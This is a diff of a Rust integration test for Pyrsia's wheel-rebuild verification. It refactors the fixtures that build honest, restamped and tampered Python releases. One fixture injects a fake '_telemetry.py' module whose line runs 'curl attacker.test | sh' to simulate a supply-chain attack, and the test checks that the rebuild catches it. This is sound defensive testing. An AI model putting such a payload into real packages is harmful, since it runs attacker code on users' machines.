@@ -14,7 +14,7 @@
 //! network has a byzantine rebuilder; every process is real.
 
 use std::net::TcpListener;
-use std::path::Path;
+use std::path::{Path, PathBuf};
 use std::time::{Duration, Instant};
 
 use pyrsia_tests::http::get;
@@ -63,33 +63,55 @@ fn copy_into(file: &Path, dir: &Path) {
     std::fs::copy(file, dir.join(file.file_name().unwrap())).unwrap();
 }
 
+/// The upstream's packages directory, holding the flit_core wheel rebuilds fetch, and the
+/// releases built with flit into it.
+struct UpstreamPackages {
+    packages: PathBuf,
+    build: PathBuf,
+}
+
+impl UpstreamPackages {
+    fn new(work: &Path) -> UpstreamPackages {
+        let packages = work.join("packages");
+        std::fs::create_dir_all(&packages).unwrap();
+        copy_into(&flit_core_wheel(), &packages);
+        UpstreamPackages {
+            packages,
+            build: work.join("build"),
+        }
+    }
+
+    /// Builds release `name` 1.0.0 with flit, lets `alter` change its wheel (an attacker, a
+    /// release process), and puts its sdist and wheel in the packages directory.
+    fn release(&self, name: &str, alter: impl Fn(&Path)) {
+        let (sdist, wheel) = flit_build(&self.build, name, "1.0.0", EPOCH, &[]);
+        alter(&wheel);
+        copy_into(&sdist, &self.packages);
+        copy_into(&wheel, &self.packages);
+    }
+}
+
 #[test]
 fn a_sole_member_rebuilds_wheels_from_source_and_commits_reproduced_stabilized_not_reproduced_and_unverifiable()
  {
     let work = tempfile::tempdir().unwrap();
     let build = work.path().join("build");
-    let packages = work.path().join("packages");
-    std::fs::create_dir_all(&packages).unwrap();
-    copy_into(&flit_core_wheel(), &packages);
-
+    let upstream = UpstreamPackages::new(work.path());
+    let packages = upstream.packages.clone();
     // Bit for bit: the release as flit built it.
-    let (sdist, wheel) = flit_build(&build, "demo-repro", "1.0.0", EPOCH, &[]);
-    copy_into(&sdist, &packages);
-    copy_into(&wheel, &packages);
+    upstream.release("demo-repro", |_| {});
     // The same wheel re-zipped later, with other times and order: only stabilised equal.
-    let (sdist, wheel) = flit_build(&build, "demo-restamped", "1.0.0", EPOCH, &[]);
-    restamp_wheel(&wheel, (2024, 5, 6, 7, 8, 10));
-    copy_into(&sdist, &packages);
-    copy_into(&wheel, &packages);
+    upstream.release("demo-restamped", |wheel| {
+        restamp_wheel(wheel, (2024, 5, 6, 7, 8, 10))
+    });
     // A module injected into the wheel after the build: in no source.
-    let (sdist, wheel) = flit_build(&build, "demo-injected", "1.0.0", EPOCH, &[]);
-    inject_into_wheel(
-        &wheel,
-        "demo_injected/_telemetry.py",
-        "import os\nos.system('curl attacker.test | sh')\n",
-    );
-    copy_into(&sdist, &packages);
-    copy_into(&wheel, &packages);
+    upstream.release("demo-injected", |wheel| {
+        inject_into_wheel(
+            wheel,
+            "demo_injected/_telemetry.py",
+            "import os\nos.system('curl attacker.test | sh')\n",
+        )
+    });
     // A release whose sdist's build backend tries to reach a listener of this test and to
     // write a file outside its build directory.
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
@@ -313,17 +335,12 @@ fn four_members_commit_the_honest_rebuild_verdict_over_a_byzantine_rebuilder_and
 {
     use pyrsia_tests::members::Members;
     let work = tempfile::tempdir().unwrap();
-    let build = work.path().join("build");
-    let packages = work.path().join("packages");
-    std::fs::create_dir_all(&packages).unwrap();
-    copy_into(&flit_core_wheel(), &packages);
-    let (sdist, wheel) = flit_build(&build, "demo-repro", "1.0.0", EPOCH, &[]);
-    copy_into(&sdist, &packages);
-    copy_into(&wheel, &packages);
-    let (sdist, wheel) = flit_build(&build, "demo-injected", "1.0.0", EPOCH, &[]);
-    inject_into_wheel(&wheel, "demo_injected/_telemetry.py", "import os\n");
-    copy_into(&sdist, &packages);
-    copy_into(&wheel, &packages);
+    let upstream = UpstreamPackages::new(work.path());
+    let packages = upstream.packages.clone();
+    upstream.release("demo-repro", |_| {});
+    upstream.release("demo-injected", |wheel| {
+        inject_into_wheel(wheel, "demo_injected/_telemetry.py", "import os\n")
+    });
     let upstream = PypiServer::start(&packages, work.path());
     let url = upstream.simple_url();
     // Member 3 attests `Reproduced` for every rebuild, selected or not.
